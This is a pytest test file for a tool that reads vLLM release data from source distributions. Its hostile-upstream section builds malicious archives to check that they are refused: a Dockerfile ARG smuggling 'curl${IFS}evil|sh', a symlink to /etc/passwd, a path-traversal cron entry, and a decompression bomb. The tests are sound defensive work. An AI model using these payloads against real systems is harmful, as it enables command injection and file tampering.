"""vLLM facts from released sdists, served by a local PEP 691 index from recorded slices.

The slices (recorded/sdist/, made by record_sdist.py) are the real files of each sdist that the
reader uses, repacked; the index page is the real one, pointed at them.
"""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import re
import tarfile
import tomllib
from pathlib import Path
from typing import Any

import pytest
from packaging.version import Version
from typer.testing import CliRunner

from resolver.cli import app
from resolver.data import overlay
from resolver.refresh import sdist
from resolver.refresh.common import Endpoints, SourceResult
from resolver.refresh.http import HttpClient
from resolver.refresh.runner import refresh, sdist_cache_dir

from .conftest import REPO_MATRIX
from .server import RECORDED, Upstream

runner = CliRunner()
SLICED = sorted(
    p.name[len("vllm-") : -len(".tar.gz")] for p in (RECORDED / "sdist").glob("vllm-*.tar.gz")
)


def shipped(file: str, key: str) -> list[dict[str, Any]]:
    doc = tomllib.loads((REPO_MATRIX / file).read_text())
    return doc[key]


def normalised(record: dict[str, Any]) -> dict[str, Any]:
    """A record with what differs between a slice and the real sdist taken out: the hash."""
    text = json.dumps(record, sort_keys=True)
    text = re.sub(r"sha256:[0-9a-f]{12}", "sha256:X", text)
    out: dict[str, Any] = json.loads(text)
    out.pop("sdist_sha256", None)
    out.pop("read_at", None)
    return out


def source(upstream: Upstream, versions: list[str] | None = None) -> sdist.SdistSource:
    return sdist.SdistSource(
        HttpClient(cache_dir=None),
        Endpoints.from_env(),
        overlay.current_raw(),
        cache=sdist_cache_dir(),
        versions=versions,
    )


# --- where the index is ------------------------------------------------------------------------


def test_index_url_follows_the_override_then_pip(tmp_path: Path) -> None:
    conf = tmp_path / "pip.conf"
    conf.write_text("[global]\nindex-url = https://mirror.example/pypi/simple/\n")
    assert (
        sdist.index_url({"ROCM_VLLM_INDEX_URL": "http://127.0.0.1:1/simple/"})
        == "http://127.0.0.1:1/simple"
    )
    assert sdist.index_url({"PIP_INDEX_URL": "https://devpi.local/root/pypi/+simple/"}) == (
        "https://devpi.local/root/pypi/+simple"
    )
    assert sdist.index_url({"PIP_CONFIG_FILE": str(conf)}) == "https://mirror.example/pypi/simple"
    assert sdist.index_url({"PIP_CONFIG_FILE": str(tmp_path / "none.conf")}) == sdist.DEFAULT_INDEX


# --- the shipped data is what the sdists say ---------------------------------------------------


def test_refreshing_from_recorded_sdists_reproduces_the_shipped_records(upstream: Upstream) -> None:
    result = source(upstream, SLICED).read()
    assert not result.refused, result.refused
    got = {c.key: c.record for c in result.candidates if c.file == "vllm.toml"}
    assert sorted(got, key=Version) == sorted(SLICED, key=Version)
    data = {str(Version(r["version"])): r for r in shipped("vllm.toml", "release")}
    for version, record in got.items():
        want = normalised(data[version])
        have = normalised(record)
        if "tag_commit" not in have:  # older _version.py files name no commit; the tag read did
            want.pop("tag_commit", None)
        assert have == want, version
    images = {f"{r['repo']}:{r['tag']}": r for r in shipped("images.toml", "image")}
    for cand in (c for c in result.candidates if c.file == "images.toml"):
        want = normalised(images[cand.key])
        have = normalised(cand.record)
        for kept in ("torch", "digest", "note", "source"):  # facts other sources added on top
            want.pop(kept, None)
            have.pop(kept, None)
        assert have == want, cand.key


def test_every_shipped_release_with_an_sdist_is_known() -> None:
    """No shipped release is `unknown` except where the index has no sdist for it."""
    page = json.loads((RECORDED / "sdist" / "pypi-simple-vllm.json").read_text())
    with_sdist = {
        str(Version(f["filename"][len("vllm-") : -len(".tar.gz")])) for f in page["files"]
    }
    for rec in shipped("vllm.toml", "release"):
        if rec.get("confidence") == "unknown":
            assert str(Version(rec["version"])) not in with_sdist, rec["version"]


def test_newest_release_has_its_stacks(upstream: Upstream) -> None:
    result = source(upstream, ["0.33.0"]).read()
    (rec,) = [c.record for c in result.candidates if c.file == "vllm.toml"]
    stacks = {s["variant"]: s for s in rec["stack"]}
    assert list(stacks) == ["rocm100", "rocm72", "gfx1250"]
    assert stacks["rocm100"]["default"] and stacks["rocm100"]["layout"] == "therock-wheels"
    assert (
        stacks["rocm100"]["rocm"] == "10.0.0" and stacks["rocm100"]["torch"] == "2.13.0+rocm10.0.0"
    )
    assert stacks["rocm100"]["images"] == ["v0.33.0", "v0.33.0-rocm100"]
    assert stacks["rocm72"]["rocm"] == "7.2.3" and stacks["rocm72"]["images"] == ["v0.33.0-rocm72"]
    assert "images" not in stacks["gfx1250"]  # built, never published
    assert stacks["gfx1250"]["pins"]["aiter"]["ref"] == "f85b24b"
    tags = sorted(c.record["tag"] for c in result.candidates if c.file == "images.toml")
    assert tags == ["v0.33.0", "v0.33.0-rocm100", "v0.33.0-rocm72"]


def test_a_release_is_downloaded_once_then_read_from_the_cache(upstream: Upstream) -> None:
    source(upstream, ["0.25.0"]).read()
    first = len(upstream.requests("/files/"))
    again = source(upstream, ["0.25.0"]).read()
    assert first == 1 and len(upstream.requests("/files/")) == 1
    assert [c.key for c in again.candidates if c.file == "vllm.toml"] == ["0.25.0"]


def test_cli_refresh_shows_the_diff_and_writes_the_overlay(
    upstream: Upstream, matrix_copy: Path
) -> None:
    from .conftest import drop_records

    drop_records(matrix_copy / "vllm.toml", "version", {"0.33.0"})
    result = runner.invoke(app, ["matrix", "refresh", "--source", "sdist"])
    assert result.exit_code == 1, result.output  # something changed, not written
    assert "+ 0.33.0  new (exact)" in result.output and "stack rocm100 (default):" in result.output
    written = runner.invoke(app, ["matrix", "refresh", "--source", "sdist", "--write"])
    assert written.exit_code == 0, written.output
    check = runner.invoke(
        app, ["check", "--gfx", "gfx942", "--driver", "30.30.3", "--vllm", "==0.33.0", "--quiet"]
    )
    assert check.exit_code == 0 and check.output.strip() in ("supported", "supported_with_warnings")


# --- hostile or broken upstreams: refused, nothing written -------------------------------------


def _targz(members: list[tuple[tarfile.TarInfo, bytes | None]]) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as tar:
        for info, data in members:
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return gzip.compress(raw.getvalue(), mtime=0)


def _file(name: str, data: bytes) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    return info, data


def _real(version: str) -> dict[str, bytes]:
    with tarfile.open(RECORDED / "sdist" / f"vllm-{version}.tar.gz") as tar:
        return {
            m.name.split("/", 1)[1]: tar.extractfile(m).read()  # type: ignore[union-attr]
            for m in tar
            if m.isfile()
        }


def _serve_one(
    upstream: Upstream, body: bytes, *, listed_sha: str | None = None, version: str = "9.9.9"
) -> None:
    name = f"vllm-{version}.tar.gz"
    upstream.overrides[f"/files/{name}"] = body
    page = {
        "meta": {"api-version": "1.1"},
        "name": "vllm",
        "files": [
            {
                "filename": name,
                "url": f"../../files/{name}",
                "hashes": {"sha256": listed_sha or hashlib.sha256(body).hexdigest()},
                "size": len(body),
                "upload-time": "2026-11-29T00:00:00Z",
            }
        ],
    }
    upstream.overrides["/simple/vllm/"] = json.dumps(page).encode()


def _good_files(version: str = "9.9.9") -> list[tuple[tarfile.TarInfo, bytes]]:
    return [_file(f"vllm-{version}/{path}", data) for path, data in _real("0.32.0").items()]


def _refresh_refuses(upstream: Upstream, why: str) -> None:
    before = (
        set(Path(overlay.overlay_path()).parent.glob("*"))
        if overlay.overlay_path().parent.exists()
        else set()
    )
    outcome = refresh(["sdist"], write=True)
    assert not outcome.changes and outcome.written is None
    assert any(why in r.reason for r in outcome.refused), outcome.refused
    after = (
        set(overlay.overlay_path().parent.glob("*"))
        if overlay.overlay_path().parent.exists()
        else set()
    )
    assert after == before, "nothing written, no temp files left"


def test_the_good_stand_in_is_accepted(upstream: Upstream) -> None:
    _serve_one(upstream, _targz(_good_files()))
    result = source(upstream).read()
    assert [c.key for c in result.candidates if c.file == "vllm.toml"] == ["9.9.9"]


def test_hash_mismatch_is_refused(upstream: Upstream) -> None:
    _serve_one(upstream, _targz(_good_files()), listed_sha="0" * 64)
    _refresh_refuses(upstream, "does not match the index")


def test_truncated_archive_is_refused(upstream: Upstream) -> None:
    body = _targz(_good_files())
    _serve_one(upstream, body[: len(body) // 2])
    _refresh_refuses(upstream, "not a readable tar.gz")


def test_symlink_member_is_refused(upstream: Upstream) -> None:
    link = tarfile.TarInfo("vllm-9.9.9/CMakeLists.txt")
    link.type = tarfile.SYMTYPE
    link.linkname = "/etc/passwd"
    _serve_one(
        upstream,
        _targz(
            [*(m for m in _good_files() if not m[0].name.endswith("CMakeLists.txt")), (link, None)]
        ),
    )
    _refresh_refuses(upstream, "is a link or special file")


def test_member_claiming_two_gigabytes_is_refused_before_reading(upstream: Upstream) -> None:
    info = tarfile.TarInfo("vllm-9.9.9/docker/Dockerfile.rocm_base")
    info.size = 2 * 1024**3
    header = info.tobuf(tarfile.GNU_FORMAT)  # the header alone: no 2 GB body follows
    body = gzip.compress(header + b"\0" * 1024, mtime=0)
    _serve_one(upstream, body)
    _refresh_refuses(upstream, "claims 2147483648 bytes")


def test_decompression_bomb_is_refused_in_bounded_time(upstream: Upstream) -> None:
    """A small sdist whose unwanted member unpacks to 200 MiB of zeros: skipped members are
    decompressed too, so the cap on what the stream unpacks must stop it, and quickly."""
    import time

    info = tarfile.TarInfo("vllm-9.9.9/model-weights.bin")
    info.size = 200 * 1024**2
    raw = io.BytesIO()
    with gzip.GzipFile(fileobj=raw, mode="wb", mtime=0, compresslevel=1) as gz:
        gz.write(info.tobuf(tarfile.GNU_FORMAT))
        zeros = b"\0" * (1024 * 1024)
        for _ in range(200):
            gz.write(zeros)
    body = raw.getvalue()
    assert len(body) < 2 * 1024**2
    start = time.monotonic()
    with pytest.raises(sdist.ArchiveError, match="unpacks to more than 64 MiB"):
        sdist.read_members(body)
    assert time.monotonic() - start < 5
    _serve_one(upstream, body)
    _refresh_refuses(upstream, "unpacks to more than")


def test_path_traversal_member_is_refused(upstream: Upstream) -> None:
    _serve_one(
        upstream,
        _targz([_file("vllm-9.9.9/../../etc/cron.d/x", b"* * * * * root x\n"), *_good_files()]),
    )
    _refresh_refuses(upstream, "unsafe path")


def test_hostile_arg_never_reaches_the_data(upstream: Upstream) -> None:
    files = _real("0.32.0")
    files["docker/Dockerfile.rocm_base"] = files["docker/Dockerfile.rocm_base"].replace(
        b'ARG AITER_BRANCH="v0.1.24.post1"', b'ARG AITER_BRANCH="v1;curl${IFS}evil|sh"'
    )
    _serve_one(upstream, _targz([_file(f"vllm-9.9.9/{p}", d) for p, d in files.items()]))
    _refresh_refuses(upstream, "is not an acceptable ref")


def test_an_index_that_is_not_pep691_is_an_upstream_error(upstream: Upstream) -> None:
    upstream.overrides["/simple/vllm/"] = b"<html><body>simple</body></html>"
    result = runner.invoke(app, ["matrix", "refresh", "--source", "sdist"])
    assert result.exit_code == 4 and "Traceback" not in result.output


def test_listing_skips_prereleases_yanked_and_wheels(upstream: Upstream) -> None:
    page = {
        "files": [
            {"filename": "vllm-1.0.0rc1.tar.gz", "url": "x", "hashes": {"sha256": "a" * 64}},
            {
                "filename": "vllm-1.0.0.tar.gz",
                "url": "x",
                "hashes": {"sha256": "a" * 64},
                "yanked": "broken",
            },
            {
                "filename": "vllm-1.0.0-cp38-abi3-manylinux1_x86_64.whl",
                "url": "x",
                "hashes": {"sha256": "a" * 64},
            },
            {
                "filename": "vllm-1.0.1.tar.gz",
                "url": "file:///etc/passwd",
                "hashes": {"sha256": "a" * 64},
            },
            {"filename": "vllm-1.0.2.tar.gz", "url": "x", "hashes": {}},
        ]
    }
    upstream.overrides["/simple/vllm/"] = json.dumps(page).encode()
    result = SourceResult("sdist")
    listed = sdist.list_sdists(HttpClient(), Endpoints.from_env().index or "", result)
    assert listed == []
    assert {r.what for r in result.refused} == {
        "sdist vllm-1.0.1.tar.gz",
        "sdist vllm-1.0.2.tar.gz",
    }


@pytest.mark.parametrize("version", ["0.16.0", "0.27.0", "0.33.0"])
def test_slices_hold_only_the_files_the_reader_reads(version: str) -> None:
    names = set(_real(version))
    assert names and all(sdist._WANTED.fullmatch(n) for n in names)


def test_verify_re_reads_what_the_data_holds_and_catches_a_tampered_record(
    upstream: Upstream, matrix_copy: Path
) -> None:
    """issue 20: `--verify` re-reads the releases already marked exact; a pin or date edited in
    the data is reported as drift, and the summary says what it compared."""
    plain = runner.invoke(app, ["matrix", "refresh", "--source", "sdist"])
    assert plain.exit_code == 0, plain.output
    assert "no new record upstream" in plain.output and "--verify" in plain.output
    clean = json.loads(
        runner.invoke(app, ["matrix", "refresh", "--source", "sdist", "--verify", "--json"]).output
    )
    # The slices are repacks of the real sdists: their hash (and the sources naming it) is all
    # that differs from the shipped records.
    assert clean["compared"]["records"] >= len(SLICED)  # each release, and its images
    assert {f["field"] for c in clean["changes"] for f in c["fields"]} <= {
        "sdist_sha256",
        "source",
        "serve_source",
    }
    path = matrix_copy / "vllm.toml"
    text = path.read_text()
    block = text.index('version = "0.33.0"')
    date = re.compile(r'date = "[^"]+"')
    found = date.search(text, block)
    assert found is not None
    path.write_text(text[: found.start()] + 'date = "2020-01-01"' + text[found.end() :])
    drift = runner.invoke(app, ["matrix", "refresh", "--source", "sdist", "--verify", "--json"])
    assert drift.exit_code == 1, drift.output
    doc = json.loads(drift.output)
    assert doc["compared"]["records"] > 1 and doc["compared"]["fields"] > doc["compared"]["records"]
    (changed,) = [c for c in doc["changes"] if c["key"] == "0.33.0"]
    assert any(f["field"] == "date" and f["old"] == "2020-01-01" for f in changed["fields"])


@pytest.mark.parametrize(
    ("version", "tag", "option"),
    [
        ("0.6.4", "required", "refused"),  # vllm/scripts.py
        ("0.10.1", "optional", "refused"),  # FlexibleArgumentParser raises (vLLM #7347)
        ("0.11.0", "optional", "refused"),
        ("0.11.1", "optional", "deprecated"),  # a warning (vLLM #25967)
        ("0.29.0", "optional", "deprecated"),  # make_arg_parser in entrypoints/launchers/
        ("0.33.0", "optional", "deprecated"),  # make_arg_parser in entrypoints/common/
    ],
)
def test_how_vllm_serve_takes_the_model_is_read_from_the_sdist(
    version: str, tag: str, option: str
) -> None:
    """Issue 40: whether a release's `vllm serve` takes the model positionally and refuses
    --model, read from its own CLI files, wherever the release keeps them."""
    files = sdist.read_members((RECORDED / "sdist" / f"vllm-{version}.tar.gz").read_bytes())
    got = sdist.serve_cli(files, f"vllm {version} sdist sha256:X")
    assert (got["serve_model_tag"], got["serve_model_option"]) == (tag, option)
    assert got["serve_source"].startswith(f"vllm {version} sdist sha256:X vllm/")


def test_serve_cli_leaves_out_what_it_does_not_find() -> None:
    assert sdist.serve_cli({}, "w") == {}
    only_tag = {"vllm/scripts.py": 'p.add_argument("model_tag", type=str, help="(x)")\n'}
    assert sdist.serve_cli(only_tag, "w") == {
        "serve_model_tag": "required",
        "serve_source": "w vllm/scripts.py (model_tag)",
    }


def test_a_cache_entry_of_another_reader_is_a_miss(tmp_path: Path) -> None:
    """A cached sdist read by an older reader lacks files this one reads (the CLI files of
    serve_cli, issue 40): it is read again, not taken as the whole release."""
    src = sdist.SdistSource(
        HttpClient(cache_dir=None), Endpoints.from_env(), {}, cache=tmp_path, versions=[]
    )
    sha = "0" * 64
    (tmp_path / f"{sha}.json").write_text(json.dumps({"sha256": sha, "files": {"a": "b"}}))
    assert src._cache_read(sha) is None
    src._cache_write(sha, {"a": "b"})
    assert src._cache_read(sha) == {"a": "b"}
